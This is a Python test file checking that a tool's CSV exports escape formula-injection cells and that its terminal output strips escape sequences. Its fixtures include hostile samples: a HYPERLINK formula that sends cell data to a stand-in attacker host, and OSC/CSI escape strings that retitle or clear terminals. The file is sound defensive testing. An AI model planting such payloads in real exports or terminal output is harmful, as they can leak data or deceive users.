"""Outputs are inert: CSV cells never run as formulas, terminal text never runs as escapes."""

from __future__ import annotations

import csv
import io

from preceptor import csvsafe
from preceptor.terminal import clean


def test_csv_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers():
    assert csvsafe.cell('=HYPERLINK("http://x","y")') == '\'=HYPERLINK("http://x","y")'
    assert [csvsafe.cell(v) for v in ("+1+2 pwn", "-cmd", "@SUM(A1)", "\tx", "\rx")] == \
        ["'+1+2 pwn", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [csvsafe.cell(v) for v in (-1, -0.25, 3, True, None, "-1", "-0.25", "+3e5", "plain", "")] == \
        [-1, -0.25, 3, True, None, "-1", "-0.25", "+3e5", "plain", ""]
    buf = io.StringIO()
    w = csvsafe.DictWriter(buf, fieldnames=["=h", "rating", "text"])
    w.writeheader()
    w.writerow({"=h": "a", "rating": -2, "text": "=1+1"})
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["'=h", "rating", "text"], ["a", "-2", "'=1+1"]]


def test_terminal_text_loses_escape_sequences_and_shows_control_characters():
    assert clean("plain\nline\ttab") == "plain\nline\ttab"
    assert clean("a\x1b]0;owned\x07b") == "ab"  # OSC retitle
    assert clean("a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\b") == "alinkb"  # OSC 8 hyperlink, ST-terminated
    assert clean("\x1b[2J\x1b[1;31mred\x1b[0m") == "red"  # CSI clear + colours
    assert clean("x\x1bcy") == "xy"  # full reset
    assert clean("over\rwrite") == "over\u240dwrite"  # CR shown, cannot overwrite the line
    assert clean("bell\x07 nul\x00 del\x7f c1\x9b31m") == "bell\u2407 nul\u2400 del\\x7f c1"
    assert clean("abc\u202edcba") == "abc<U+202E>dcba"
    assert clean(None) == ""


def test_votes_export_and_report_csv_escape_formulas(project, tmp_path):
    from preceptor.engine.events import run
    from preceptor.engine.export.votes import export_votes
    from tests.test_stats_support import Judged

    j = Judged(project)
    pid = j.prompt('=HYPERLINK("http://evil.example/?"&A1,"click")', split="train")
    pair, outs = j.pair(pid, {"base": "@SUM(1+1)", "teacher": "-2+3"})
    j.vote(pair, outs, "teacher", confidence=None)
    run(export_votes(project, tmp_path / "votes.csv", "csv"))
    rows = list(csv.DictReader((tmp_path / "votes.csv").open(encoding="utf-8")))
    assert rows[0]["prompt"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    cells = [c for r in csv.reader((tmp_path / "votes.csv").open(encoding="utf-8")) for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")]


def test_judge_next_text_mode_prints_no_escape_sequences(project, capsys):
    from preceptor.cli import main
    from tests.test_judge_support import make_all_pairs, seed_outputs

    seed_outputs(project, 2, splits=("val",))
    project.store.execute("UPDATE prompts SET text = ?", ("title\x1b]0;pwned\x07 clear\x1b[2J done\rX",))
    project.store.execute("UPDATE outputs SET text = text || ?", ("\x1b[31mred\x1b[0m",))
    make_all_pairs(project)
    root = str(project.root)
    main(["--project", root, "experts", "add", "Ada"])
    capsys.readouterr()
    assert main(["--project", root, "judge", "next", "--as", "Ada"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert "title clear done\u240dX" in out and "red" in out
